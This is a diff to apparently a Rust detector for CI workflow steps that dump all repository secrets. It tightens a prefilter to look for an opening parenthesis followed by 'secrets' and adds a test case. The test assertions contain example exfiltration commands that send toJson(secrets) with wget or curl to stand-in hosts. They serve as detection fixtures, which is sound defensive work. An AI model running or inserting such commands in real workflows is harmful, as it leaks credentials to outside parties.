@@ -362,14 +362,19 @@ pub fn hidden_text(text: &str) -> bool {
 /// to send somewhere.
 #[must_use]
 pub fn workflow_secret_dump(text: &str) -> bool {
-    // Every string constant of every file comes here: most leave before any copy.
-    if text.len() < 20
-        || text.len() > 1 << 16
-        || !text
-            .as_bytes()
-            .windows(7)
-            .any(|w| w.eq_ignore_ascii_case(b"secrets"))
-    {
+    // Every string constant of every file comes here: most leave before any copy, at
+    // the first test that needs a `(` followed by `secrets` (spaces between allowed, as
+    // the expression's are). Parentheses are rare in prose, so few places are looked at.
+    if text.len() < 20 || text.len() > 1 << 16 {
+        return false;
+    }
+    let bytes = text.as_bytes();
+    let opens_secrets = memchr::memchr_iter(b'(', bytes).any(|at| {
+        let rest = bytes[at + 1..].trim_ascii_start();
+        rest.get(..7)
+            .is_some_and(|w| w.eq_ignore_ascii_case(b"secrets"))
+    });
+    if !opens_secrets {
         return false;
     }
     let lower = text.to_ascii_lowercase();
@@ -537,6 +542,9 @@ mod tests {
         ));
         assert!(workflow_secret_dump(
             "run: echo '${{ tojson( secrets ) }}' | base64 | wget --post-data=@- http://192.0.2.7/"
+        ));
+        assert!(workflow_secret_dump(
+            "run: |\n  curl --data \"${{ ToJson(\n   SECRETS) }}\" https://collect.example.invalid/"
         ));
         // Printing them for debugging, or one secret sent to its own service, is not.
         assert!(!workflow_secret_dump(
